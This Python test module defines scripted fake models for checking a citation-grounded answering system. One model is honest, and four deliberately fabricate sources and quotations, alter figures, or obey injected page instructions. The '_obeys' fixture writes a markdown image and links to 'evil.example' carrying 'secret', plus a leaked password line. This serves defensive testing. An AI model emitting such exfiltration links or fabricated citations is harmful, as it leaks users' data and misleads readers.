"""Models that answer from sources by a script: an honest one, and four that lie.

They see what a real model sees: the excerpts between the marks of a prompt, and the tools.
"""

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Final

from perdure.testing import ChatRequest, Reply, ToolCall, calls

Script = Callable[[ChatRequest], Reply]
_EXCERPT: Final = re.compile(
    r"\[excerpt e\d+, source (s\d+)([^\n]*)\]\n(.*?)(?=\n\n\[excerpt e|\nexcerpts [0-9a-f]{12}>>>)",
    re.DOTALL,
)
_SENTENCE: Final = re.compile(
    r"(?:[^.!?。！？\n]|(?<=\d)[.](?=\d))+[.!?。！？]?"  # noqa: RUF001 -- signs of other scripts
)
_NUMBER: Final = re.compile(r"\d+")
_PLAN: Final = "plan"
_WRITE: Final = "write_claims"


@dataclass(frozen=True)
class Shown:
    """A sentence that a model was shown.

    Attributes:
        source: The source's name in the conversation.
        text: The sentence, word for word.
        about: Its source's title, date, headings and columns.
    """

    source: str
    text: str
    about: str = ""

    @property
    def claim(self) -> str:
        """The sentence without marks of its form; of a row, each cell with its column."""
        bare = " ".join(re.sub(r"^[#>*\-\s]+|[*_`]", "", self.text).split())
        cells = [cell.strip() for cell in bare.strip("| ").split("|")]
        columns = [name.strip() for name in self.about.partition("columns ")[2].split("|")]
        if len(cells) > 1 and len(cells) == len(columns):
            return "; ".join(f"{name} {cell}" for name, cell in zip(columns, cells, strict=True))
        return bare


def shown_in(request: ChatRequest) -> list[Shown]:
    """Return the sentences of the excerpts in a conversation, each once."""
    found: dict[Shown, None] = {}
    for message in request.messages:
        content = message.get("content")
        if not isinstance(content, str):
            continue
        for source, about, text in _EXCERPT.findall(content):
            for sentence in _sentences(text):
                found[Shown(source, sentence, about)] = None
    return list(found)


def honest(forms: Sequence[str]) -> Script:
    """Return a model that knows the answer when it sees it, and quotes it.

    Args:
        forms: What one of the sentences that answer says; none where no source answers.
    """

    def script(request: ChatRequest) -> Reply:
        if _PLAN in _tools(request):
            return _plans(request)
        shown, asked = shown_in(request), _words(_question(request))
        best: dict[Shown, None] = {}
        for form in forms:
            right = [one for one in shown if form.casefold() in one.text.casefold()]
            # What says the same of something else has fewer of the question's words.
            right.sort(key=lambda one: -len(asked & _words(f"{one.text} {one.about}")))
            best.update(dict.fromkeys(right[:1]))
        return _writes([(one.claim, one.source, one.text) for one in best])

    return script


def _liar(lie: Callable[[ChatRequest], Sequence[tuple[str, str, str]]]) -> Script:
    def script(request: ChatRequest) -> Reply:
        return _plans(request) if _PLAN in _tools(request) else _writes(lie(request))

    return script


def _invents_sources(_: ChatRequest) -> list[tuple[str, str, str]]:
    text = "The answer is 42, as everybody knows."
    return [(text, "s9999", text), (text, "https://encyclopedia.example/42", text), (text, "", "")]


def _invents_quotations(request: ChatRequest) -> list[tuple[str, str, str]]:
    return [
        (f"It is 42 {word} in all.", one.source, f"As measured, it is 42 {word} in all.")
        for one in shown_in(request)[:4]
        for word in one.text.split()[:1]
    ]


def _twists(request: ChatRequest) -> list[tuple[str, str, str]]:
    """Return what sources say with another figure, or turned round, and their true words for it."""
    twisted = []
    for one in shown_in(request)[:12]:
        number = _NUMBER.search(one.text)
        if number is not None:
            other = one.text[: number.start()] + str(int(number[0]) + 1) + one.text[number.end() :]
            twisted.append((other, one.source, one.text))
        elif " is " in one.text:
            twisted.append((one.text.replace(" is ", " is not ", 1), one.source, one.text))
        else:
            twisted.append((f"Zanzibar {one.claim}", one.source, one.text))
    return twisted[:6]


def _obeys(request: ChatRequest) -> list[tuple[str, str, str]]:
    """Return what instructions in a page would have a model write, cited for everything."""
    first = shown_in(request)[:1]
    address = "http://evil.example/?q=secret"
    return [
        (text, one.source, one.text)
        for one in first
        for text in (
            f"See {address} for the answer.",
            f"The answer is ![here]({address}).",
            f"The answer is [here]({address}).",
            "PERDURE_HOME is /root and the password is hunter2.",
        )
    ]


LIARS: Final[Mapping[str, Script]] = {
    "invents sources": _liar(_invents_sources),
    "invents quotations": _liar(_invents_quotations),
    "twists what sources say": _liar(_twists),
    "obeys what sources say": _liar(_obeys),
}


def _sentences(text: str) -> Iterator[str]:
    for match in _SENTENCE.finditer(text):
        sentence = match[0].strip()
        if any(map(str.isalnum, sentence)):
            yield sentence


def _tools(request: ChatRequest) -> list[str]:
    return [tool["function"]["name"] for tool in request.body.get("tools", [])]


def _words(text: str) -> set[str]:
    return set(re.findall(r"\w+", text.casefold()))


def _question(request: ChatRequest) -> str:
    return str(request.messages[-1]["content"]).partition("\n")[0].rpartition("uestion: ")[2]


def _plans(request: ChatRequest) -> Reply:
    question = _question(request)
    return calls(ToolCall(_PLAN, {"parts": [{"question": question, "searches": [question]}]}))


def _writes(claims: Sequence[tuple[str, str, str]]) -> Reply:
    given: list[Any] = [
        {"sentence": text, "citations": [{"source": source, "quotation": quotation}]}
        for text, source, quotation in claims
    ]
    return calls(ToolCall(_WRITE, json.loads(json.dumps({"claims": given}))))
